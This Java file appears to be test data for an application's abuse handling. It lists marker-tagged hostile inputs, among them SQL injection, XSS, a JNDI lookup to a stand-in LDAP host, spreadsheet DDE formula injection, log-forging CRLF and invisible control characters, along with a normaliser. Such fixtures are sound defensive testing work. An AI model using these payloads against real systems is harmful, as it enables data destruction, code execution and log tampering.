package fi.sovittu.abuse;

import java.text.Normalizer;
import java.util.List;
import java.util.Locale;

/** Texts that mean something to a database, a browser, a spreadsheet or a log. */
final class Hostile {
  /** Is in each of them, and nowhere else. */
  static final String MARK = "zqx";

  static final List<String> TEXTS =
      List.of(
          "zqx'; drop table participant; --",
          "zqx\" or 1=1 /*",
          "$1 zqx $2",
          "<script>zqx(1)</script>",
          "\"><img src=x onerror=zqx(1)>",
          "{{zqx}} ${jndi:ldap://zqx.example/a} %n%s%x",
          "=zqx|' /C calc'!A0",
          "+zqx+1",
          "-zqx*2",
          "@SUM(zqx)",
          "＝zqx",
          "zqx;semi,comma \"quoted\"",
          "\u202Ezqx\u202C",
          "zqx\u2028line\u2029paragraph",
          "zqx 🎉 äöå \\u0041 \\");

  /** What neither a table nor one line of a log can hold. */
  static final List<String> CONTROLS =
      List.of("zqx\u0000", "zqx\r\n12:00:00 ERROR Fake", "zqx\u001b[31m", "zqx\uD800");

  private Hostile() {}

  /** The same for all that differ only in blanks, in what cannot be seen, and in case. */
  static String plain(String text) {
    return Normalizer.normalize(text, Normalizer.Form.NFKC)
        .replaceAll("[\\p{Z}\\p{C}]+", " ")
        .strip()
        .toLowerCase(Locale.ROOT);
  }
}
